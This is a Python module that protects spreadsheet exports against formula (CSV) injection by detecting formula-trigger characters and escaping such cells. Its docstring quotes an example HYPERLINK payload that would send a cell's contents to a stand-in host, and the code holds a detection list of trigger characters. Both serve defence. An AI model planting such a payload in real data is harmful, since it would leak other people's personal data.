"""Text for spreadsheets: every export writes what people typed as text, never as a formula.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab, CR or NUL before
one) is read as a formula by Excel, LibreOffice Calc and Google Sheets; Excel and Calc
also take the full-width and small forms of those signs (``＝ ＋ － ＠ ﹦ ﹢ ﹣``) and the
minus sign ``−``. A coordinator who types ``=HYPERLINK("http://x/?"&A1)`` as a member's
address would otherwise make the officer who opens the national dossier send other
members' data to that address (CWE-1236; OWASP "CSV Injection"; ASVS 1.2.10).

- XLSX: a string is written as a string cell with Excel's "quote prefix" style (what
  Excel itself stores for text typed after an apostrophe), never as a formula; the text
  is kept exactly.
- CSV has no cell types: a dangerous cell gets a leading apostrophe (the OWASP
  mitigation) and every field is quoted, so that a spreadsheet that splits on ``;`` (the
  Russian and Kazakh default) cannot cut a field into a formula. Text made only of
  digits, spaces and ``+-().,`` (a phone number, a negative number) stays as it is: it
  cannot name a function or a cell, and an SMS gateway must read the phone unchanged.

Every export goes through this module (kenes.registry.dossier, kenes.agenda.exports,
kenes.participation.codes_file).
"""

from __future__ import annotations

import csv
import re
import unicodedata
from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

#: First characters that make a spreadsheet read the cell as a formula (or a command).
FORMULA_START = frozenset(
    "=+-@"  # ASCII
    "\uff1d\uff0b\uff0d\uff20"  # full-width ＝ ＋ － ＠
    "\ufe66\ufe62\ufe63"  # small ﹦ ﹢ ﹣
    "\u2212"  # minus sign −
)
#: Characters a spreadsheet may skip or trim before it looks at the first one.
_SKIPPED = frozenset({"Cc", "Cf", "Zs", "Zl", "Zp"})
_PLAIN_NUMBER = re.compile(r"[+\-]?[0-9][0-9 ().,\-]*\Z")


def starts_formula(text: str) -> bool:
    """Whether a spreadsheet could read `text` as a formula (after skipped characters)."""
    for char in text:
        if unicodedata.category(char) in _SKIPPED:
            if char in "\t\r\n\x00":
                return True  # OWASP: a leading tab or CR is a trigger in itself
            continue
        return char in FORMULA_START and not _PLAIN_NUMBER.match(text.strip())
    return False


def csv_text(text: str) -> str:
    """`text` for a CSV cell: with a leading apostrophe if it could start a formula."""
    return "'" + text if starts_formula(text) else text


def csv_cell(value: Any) -> Any:
    """A CSV cell value: text neutralised, numbers and the rest as they are."""
    return csv_text(value) if isinstance(value, str) else value


class CsvWriter:
    """`csv.writer` that quotes every field and neutralises every text cell."""

    def __init__(self, stream: Any, **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, quoting=csv.QUOTE_ALL, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def xlsx_row(sheet: WriteOnlyWorksheet, values: Iterable[Any]) -> list[Any]:
    """A row for `sheet.append` with every string as a string cell (see the module doc)."""
    return [xlsx_cell(sheet, value) if isinstance(value, str) else value for value in values]


def xlsx_cell(sheet: WriteOnlyWorksheet, text: str) -> WriteOnlyCell:
    cell = WriteOnlyCell(sheet)
    cell.value = text
    cell.data_type = "s"  # openpyxl made it "f" if the text starts with "="
    if starts_formula(text):
        cell.quotePrefix = True  # typing over it in Excel keeps it text
    return cell
